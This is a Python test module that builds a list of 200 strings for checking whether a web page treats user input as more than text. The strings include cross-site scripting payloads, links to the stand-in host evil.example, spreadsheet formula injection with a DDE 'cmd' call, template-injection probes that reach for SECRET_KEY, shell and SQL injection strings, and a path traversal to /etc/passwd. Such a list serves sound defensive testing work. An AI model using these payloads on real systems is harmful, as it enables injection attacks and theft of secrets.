"""200 texts that often break pages: each is detected if a page treats it as more than text."""

from __future__ import annotations

from itertools import product
from typing import Final

MARK: Final = "document.documentElement.dataset.broken='1'"
"""The effect of each script; beside a dialog, which is also detected."""
_RUN: Final = f"{MARK};alert(1)"
_TAGS: Final = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f'<math><mi//xlink:href="data:x,<script>{_RUN}</script>">',
    f"<template><script>{_RUN}</script></template>",
    "<style>*{display:none!important}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>Sign in</button></form>",
    "<dialog open>Signed out</dialog>",
    "<textarea>",
    "<!--",
    "<![CDATA[",
    "</main></body></html>",
    "</td></tr></table>",
    "</pre></code>",
    "</title>",
    "<plaintext>",
)
_BREAKERS: Final = tuple(
    f"{quote}{space}{word}"
    for quote, space, word in product(
        ("'", '"', "`", "&quot;", "\\"),
        (" ", ">", "/"),
        (f"onmouseover={_RUN} x=", f"><script>{_RUN}</script>", f"autofocus onfocus={_RUN}"),
    )
)
_ADDRESSES: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "//evil.example/x",
    "https://evil.example/x",
    "../../../etc/passwd",
    "?verdict=denied&cluster=",
    "#content",
    "%00%0a%0d<b>",
)
_TEMPLATES: Final = (
    "{{ 7|add:7 }}",
    "{% load static %}{% static 'x' %}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%s%n%x%d",
    "{0.__class__}",
    "$(touch /x)",
    "`id`",
    "'; DROP TABLE policies_cluster; --",
    "\\u003cscript\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
)
FORMULAS: Final = tuple(
    f"{first}{rest}"
    for first, rest in product(
        ("=", "+", "-", "@", "\t=", "\r="),
        (
            "1+1",
            'HYPERLINK("//evil.example","x")',
            "cmd|' /C calc'!A0",
            'IMPORTXML("//evil.example")',
        ),
    )
)
"""The formulas that a spreadsheet would compute."""
_WRITING: Final = (
    "\u202egnp.exe\u202c",
    "\u202dabc\u202e",
    "\u2066\u2067\u2068x",
    "\u200f\u200e\u061c",
    "\u0645\u0631\u062d\u0628\u0627",
    "\u05e9\u05dc\u05d5\u05dd <b>",
    "z" + "\u0300\u0489\u0316\u0327\u0338" * 40,
    "\u0321\u0330\u0334" * 60,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\U0001f4a9" * 120,
    "\u200b" * 200,
    "\ufeff\ufffe\uffff",
    "\u2028\u2029line",
    "\ufdfd" * 40,
    "\U00012031" * 40,
    "\u0bb8\u0bcd\u0bb1\u0bc0" * 30,
    "\uff1cscript\uff1e",
    "\u00ad".join("hyphens" * 20),
    "\u3042" * 240,
)
_LONG: Final = (
    "w" * 250,
    "W" * 253,
    "0" * 253,
    "_" * 253,
    "a-" * 126,
    "a." * 126,
    "/" * 200,
    " " * 200 + "x",
    "x\n" * 60,
    "\u00a0" * 200 + "end",
    "0x" + "f" * 240,
    "1e" + "9" * 200,
)
_CONTROLS: Final = tuple(f"a{chr(number)}b" for number in (*range(1, 32), 127, 133, 155, 160))
_ODD: Final = (
    "null",
    "undefined",
    "NaN",
    "true",
    "None",
    "[object Object]",
    "-0",
    "''",
    '""',
    " ",
    "\\",
    "\\\\",
    "</",
    "]]>",
)
_ALL: Final = (
    *_TAGS,
    *_BREAKERS,
    *_ADDRESSES,
    *_TEMPLATES,
    *FORMULAS,
    *_WRITING,
    *_LONG,
    *_CONTROLS,
    *_ODD,
)
TEXTS: Final = tuple(dict.fromkeys(_ALL))[:200]
